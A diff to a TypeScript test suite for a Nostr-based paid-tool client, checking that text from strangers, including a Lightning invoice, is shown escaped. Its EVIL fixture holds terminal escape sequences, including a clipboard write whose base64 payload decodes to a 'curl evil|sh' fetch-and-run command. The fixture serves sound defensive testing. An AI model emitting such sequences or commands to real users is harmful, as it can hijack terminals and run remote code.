@@ -19,6 +19,9 @@ const CSI = '\u009b';
 const EVIL = `${ESC}]0;pwned${BEL}${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}${ESC}[2J${CSI}2J ok`;
 /** EVIL as the terminal must show it. */
 const SHOWN = String.raw`\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J\u009b2J ok`;
+/** An invoice of 5 sats carrying EVIL (lower case, as BOLT-11 is read, so the client takes it as 5 sats), and as shown. */
+const EVIL_INVOICE = `lnbc50n1${EVIL.toLowerCase()}`;
+const SHOWN_INVOICE = `lnbc50n1${SHOWN.toLowerCase()}`;
 
 const now = (): number => Math.floor(Date.now() / 1000);
 const sign = (sk: Uint8Array, kind: number, tags: string[][], content: string): NostrEvent => ({ ...finalizeEvent({ kind, created_at: now(), tags, content }, sk) });
@@ -46,7 +49,7 @@ function dvmcpServer(e: NostrEvent, r: FakeRelay): void {
   const { params } = JSON.parse(e.content) as { params: { name: string } };
   const to = [['p', e.pubkey], ['e', e.id]];
   if (params.name === 'broken') return r.deliver(sign(provider, KIND.DVMCP_RESPONSE, to, JSON.stringify({ error: { code: -32000, message: `bad\n${EVIL}` } })));
-  r.deliver(sign(provider, KIND.DVMCP_NOTIFICATION, [...to, ['status', 'payment-required'], ['amount', '5', `lnbc5${EVIL}`]], ''));
+  r.deliver(sign(provider, KIND.DVMCP_NOTIFICATION, [...to, ['status', 'payment-required'], ['amount', '5', EVIL_INVOICE]], ''));
   if (params.name !== 'forecast') return;
   unpaid.push(() => {
     r.deliver(sign(provider, KIND.DVMCP_NOTIFICATION, to, JSON.stringify({ method: 'notifications/progress', params: { progress: 1, total: 2, message: EVIL } })));
@@ -121,7 +124,7 @@ describe('text from strangers is shown escaped', () => {
     expect(r.code).toBe(0);
     expectTerminalSafe(r.stdout);
     expectTerminalSafe(r.stderr);
-    expect(r.stderr).toContain(`[pay this invoice with your wallet; waiting for the payment: lnbc5${SHOWN}]`);
+    expect(r.stderr).toContain(`[pay this invoice with your wallet; waiting for the payment: ${SHOWN_INVOICE}]`);
     expect(r.stderr).toContain(`[progress 1/2 ${SHOWN}]`);
     expect(r.stdout).toBe(`line 1\n${SHOWN}\\u000dline 2\n`);
   });
@@ -130,7 +133,7 @@ describe('text from strangers is shown escaped', () => {
     const declined = await run(['call', 'weather', 'priced', '--url', relay.url]);
     expect(declined.code).toBe(3);
     expectTerminalSafe(declined.stderr);
-    expect(declined.stderr).toContain(`error payment: payment required: 5 sats (invoice lnbc5${SHOWN}) (not paid: --max-sats 0)`);
+    expect(declined.stderr).toContain(`error payment: payment required: 5 sats (invoice ${SHOWN_INVOICE}) (not paid: --max-sats 0)`);
     const broken = await run(['call', 'weather', 'broken', '--url', relay.url]);
     expect(broken.code).toBe(3);
     expectTerminalSafe(broken.stderr);
